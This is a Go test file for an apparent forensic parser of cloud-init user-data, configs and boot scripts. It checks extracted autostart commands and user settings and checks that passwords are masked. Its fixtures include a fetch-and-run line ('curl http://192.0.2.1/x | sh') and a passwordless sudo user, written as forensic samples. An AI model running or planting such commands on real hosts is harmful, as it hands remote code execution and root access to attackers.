package cloudinit

import (
	"context"
	"slices"
	"strings"
	"testing"

	"deadbox/timeline"
)

func source(name, text string) *timeline.Source {
	return &timeline.Source{Path: name, Data: strings.NewReader(text), Size: int64(len(text)), Place: func(off, n int64, line int) timeline.Evidence {
		return timeline.Evidence{Path: name, Offset: off, Length: n, Line: line}
	}}
}

func show(name, text string) []string {
	var out []string
	for r, err := range run(context.Background(), source(name, text)) {
		switch {
		case err != nil:
			out = append(out, "error "+err.Error())
		case r.Kind == timeline.KindAutostart:
			out = append(out, r.Fields["event"]+" "+r.Fields["command"])
		default:
			out = append(out, r.Fields["key"]+"="+r.Fields["value"])
		}
	}
	return out
}

func TestUserData(t *testing.T) {
	const p = "/var/lib/cloud/instances/i-1/user-data.txt"
	tests := []struct {
		path, text string
		want       []string
	}{
		{p, "#cloud-config\nhostname: web1\nusers:\n  - default\n  - name: deploy\n    sudo: \"ALL=(ALL) NOPASSWD:ALL\"\n    passwd: $6$hunter2\n    lock_passwd: false\n    ssh_authorized_keys:\n      - ssh-ed25519 AAAA a\nssh_pwauth: true\n" +
			"chpasswd:\n  list: |\n    root:hunter2\nwrite_files:\n- path: /etc/cron.d/x\n  content: |\n    runcmd:\n    - evil\n    password: hunter2\n  permissions: '0644'\npackages:\n  - nginx\nruncmd:\n  - curl http://192.0.2.1/x | sh\n  - [ /bin/sh, -c, \"id\" ]\n  - - touch\n    - /tmp/a\n  - |\n    cd /tmp\n    ./a b\n  - echo done\n" +
			"bootcmd:\n- /tmp/b\nother:\n  - x\n", []string{"hostname=web1", "users.name=deploy", "users.sudo=ALL=(ALL) NOPASSWD:ALL", "users.passwd=***", "users.lock_passwd=false", "users.ssh_authorized_keys=ssh-ed25519 AAAA a", "ssh_pwauth=true",
			"chpasswd.list=***", "write_files.path=/etc/cron.d/x", "write_files.permissions=0644", "packages=nginx", "per-instance curl http://192.0.2.1/x | sh", "per-instance /bin/sh -c id", "per-instance touch /tmp/a", "per-instance cd /tmp; ./a b", "per-instance echo done", "per-boot /tmp/b"}},
		{p, "#!/bin/bash\nid\n", []string{"per-instance " + p}},
		{p, "Content-Type: multipart/mixed; boundary=\"==b\"\nMIME-Version: 1.0\n\n--==b\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nruncmd:\n - no\n--==b\nContent-Type: text/cloud-config\n\n#cloud-config\nruncmd:\n - yes\n--==b--\n", []string{"per-instance " + p, "per-instance yes"}},
		{"/var/lib/cloud/data/instance-id", "i-0123\n", []string{"instance-id=i-0123"}},
		{"/var/lib/cloud/scripts/per-boot/x.sh", "id\n", []string{"per-boot /var/lib/cloud/scripts/per-boot/x.sh"}},
		{"/etc/cloud/cloud.cfg", "users:\n   - default\ndisable_root: true\nsystem_info:\n   default_user:\n     name: debian\n     sudo: [\"ALL=(ALL) NOPASSWD:ALL\"]\n", []string{"disable_root=true", "system_info.default_user.name=debian", "system_info.default_user.sudo=[\"ALL=(ALL) NOPASSWD:ALL\"]"}},
	}
	for _, tt := range tests {
		got := show(tt.path, tt.text)
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s:\ngot  %s\nwant %s", tt.path, strings.Join(got, "\n     "), strings.Join(tt.want, "\n     "))
		}
		if strings.Contains(strings.Join(got, ""), "hunter2") {
			t.Errorf("%s: a secret is told", tt.path)
		}
	}
}

func FuzzCloudInit(f *testing.F) {
	f.Add("#cloud-config\nusers:\n- name: a\n  passwd: b\nruncmd:\n- - a\n  - b\n- [c, d]\n- |\n e\nbootcmd: [f]\n")
	f.Add("Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/x-shellscript\n\n#!\n--x--\n")
	f.Fuzz(func(t *testing.T, text string) {
		for r, err := range run(context.Background(), source("/var/lib/cloud/instances/i/user-data.txt", text)) {
			if err == nil && (r.Fields["path"] == "" || r.Evidence.Offset < 0 || r.Evidence.Length < 0 || r.Evidence.Offset+r.Evidence.Length > int64(len(text))) {
				t.Fatalf("%+v", r)
			}
		}
	})
}
